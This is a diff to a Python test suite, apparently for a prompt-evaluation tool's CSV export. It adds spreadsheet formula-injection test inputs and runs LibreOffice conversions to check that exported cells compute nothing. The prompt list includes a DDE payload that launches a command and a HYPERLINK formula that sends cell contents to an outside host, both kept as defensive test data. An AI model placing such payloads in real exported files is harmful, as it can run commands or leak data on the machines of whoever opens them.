@@ -224,6 +224,7 @@ PROMPTS = [
     *('=HYPERLINK("http://example.org/?a="&A1,"free")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "- a cat"),
     *("@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", "'a cat'", "＝1+1", "a cat", "a\rcat"),
     *('say "hi", then', "two\nlines", "NA", "null", "1", "über 図"),
+    *("a cat;=1+1", "a cat\t=1+1", "a cat|=1+1", 'a cat";=1+1'),
 ]
 
 
@@ -264,7 +265,7 @@ def test_results_are_a_list_of_prompts(tmp_path):
 
 def test_results_without_pandas(results, monkeypatch):
     monkeypatch.setitem(__import__("sys").modules, "pandas", None)
-    with pytest.raises(ImportError, match=r"read_results: expected pandas, .*; pip install pandas"):
+    with pytest.raises(ImportError, match=r"read_results: expected pandas, .*; pip install 'jaxmem\[all\]'"):
         read_results(results)
 
 
@@ -277,12 +278,12 @@ def test_no_cell_of_the_results_begins_a_formula(results):
 @pytest.mark.skipif(
     not shutil.which("soffice"), reason="no LibreOffice here: apt-get install libreoffice-calc brings it"
 )
-def test_libreoffice_computes_nothing_of_the_results(results, tmp_path):
+@pytest.mark.parametrize("separators", ["44", "44/59/9"], ids=["commas", "commas, semicolons and tabs"])
+def test_libreoffice_computes_nothing_of_the_results(results, tmp_path, separators):
     profile = f"-env:UserInstallation=file://{tmp_path}/profile"
-    subprocess.run(
-        ["soffice", profile, "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(results)],
-        check=True, capture_output=True, timeout=120,
-    )  # fmt: skip
+    options = [profile, "--headless", f"--infilter=CSV:{separators},34,76,1", "--convert-to", "xlsx"]
+    command = ["soffice", *options, "--outdir", str(tmp_path), str(results)]
+    subprocess.run(command, check=True, capture_output=True, timeout=120)
     with zipfile.ZipFile(tmp_path / "results.xlsx") as archive:
         sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
     space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
@@ -408,6 +409,8 @@ def test_messages_name_arguments_and_the_command_line_flags(module, words, comma
         ),
         ("without it: `ignore_settings=['a', 'b']`", Spectrum, [], "without it: --ignore-setting a b"),
         ("score: `state=1`", Audit, [], "score: state=1"),
+        ("prompts: got 'a `seed=abc` cat' twice", Audit, [], "--prompts: got 'a `seed=abc` cat' twice"),
+        ("out: expected an empty directory", Audit, ["--out=./out"], "out: expected an empty directory"),
     ],
 )
 def test_names_of_arguments_become_flags(message, command, arguments, expected):
